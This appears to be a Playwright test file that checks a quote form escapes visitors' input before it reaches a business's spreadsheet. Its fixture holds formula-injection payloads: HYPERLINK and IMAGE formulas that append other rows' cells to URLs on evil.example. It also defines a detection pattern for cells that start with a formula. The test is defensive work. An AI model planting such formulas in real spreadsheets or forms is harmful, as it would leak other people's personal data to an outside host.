import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createContext, runInContext } from 'node:vm';
import { expect, test } from '@playwright/test';
import { postJson, quote, runOutboxOnce } from './support';

// 14. Spreadsheet formula injection: what a visitor typed reaches the business's sheet as
// text. A cell starting with = + - @ (or tab, CR) would be a live formula there (HYPERLINK,
// IMPORTXML or IMAGE calls that send other leads' cells away), and `+33612…` a number.

/** A cell a spreadsheet would read as a formula (or a number, for a phone). */
const FORMULA_START = /^(?:[\t\r\n]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])/;

const attack = {
  fullName: '=HYPERLINK("https://evil.example/?"&E2:E99,"Camille")',
  message: '=IMAGE("https://evil.example/x.png?"&CONCATENATE(F2:F99))',
  phone: '+33612345678',
};

function sheetRows(): Record<string, unknown>[] {
  let log = '';
  try {
    log = readFileSync(process.env.ATTACK_SHEET_LOG ?? '', 'utf8');
  } catch {
    return [];
  }
  return log
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

test.describe('14. Spreadsheet formula injection', () => {
  test('the sheet webhook gets the visitor’s formulas as text and the phone as text', async () => {
    const response = await postJson('/rest/v1/rpc/submit_quote', { payload: quote(attack) });
    expect(response.status).toBe(200);
    const id = (await response.json()) as string;
    await expect
      .poll(
        async () => {
          await runOutboxOnce();
          return sheetRows().find((row) => row.id === id);
        },
        { timeout: 30_000, message: 'the row reaches the sheet webhook' },
      )
      .toBeTruthy();
    const row = sheetRows().find((candidate) => candidate.id === id) ?? {};
    for (const [field, value] of Object.entries(row)) {
      if (typeof value === 'string') expect(value, `cell ${field}`).not.toMatch(FORMULA_START);
    }
    expect(row.fullName, 'the name, as text').toBe(`'${attack.fullName}`);
    expect(row.phone, 'the phone, as text').toBe(`'${attack.phone}`);
  });

  test('the receiving script of backend/README.md appends no formula and no phone as a number', () => {
    const readme = readFileSync(join(__dirname, '..', '..', 'backend', 'README.md'), 'utf8');
    const section = readme.slice(readme.indexOf('### Sheet receivers'));
    const script = /```js\n([\s\S]*?)```/.exec(section)?.[1];
    expect(script, 'the documented script').toBeTruthy();
    // Apps Script's services, as far as the script uses them; appendRow records what it gets.
    const appended: unknown[][] = [];
    const sheet = {
      getRange: () => ({ getValues: () => [['id'], ['une-autre-ligne']] }),
      appendRow: (values: unknown[]) => appended.push(values),
    };
    const context = createContext({
      SpreadsheetApp: { getActive: () => ({ getSheetByName: () => sheet }) },
      LockService: { getScriptLock: () => ({ waitLock: () => {}, releaseLock: () => {} }) },
      ContentService: { createTextOutput: (text: string) => text },
    });
    runInContext(script ?? '', context);
    // A row as an older sender (or anyone who finds the webhook's URL) would post it: raw.
    const row = {
      id: 'f1d7a1c2-0000-4000-8000-000000000001',
      timestamp: '2026-11-26T08:30:00Z',
      fullName: attack.fullName,
      phone: attack.phone,
      email: '@evil.example',
      postalCode: '06000',
      surface: 30,
      message: `\t${attack.message}`,
      totalPrice: 1760,
    };
    context.body = JSON.stringify(row);
    runInContext('doPost({ postData: { contents: body } })', context);
    expect(appended.length, 'rows appended').toBe(1);
    const cells = appended[0] ?? [];
    for (const cell of cells) {
      if (typeof cell === 'string') expect(cell, 'an appended cell').not.toMatch(FORMULA_START);
    }
    expect(cells, 'the phone and postal code as text').toEqual(
      expect.arrayContaining([`'${attack.phone}`, "'06000"]),
    );
    expect(cells, 'the surface and price as numbers').toEqual(expect.arrayContaining([30, 1760]));
  });
});
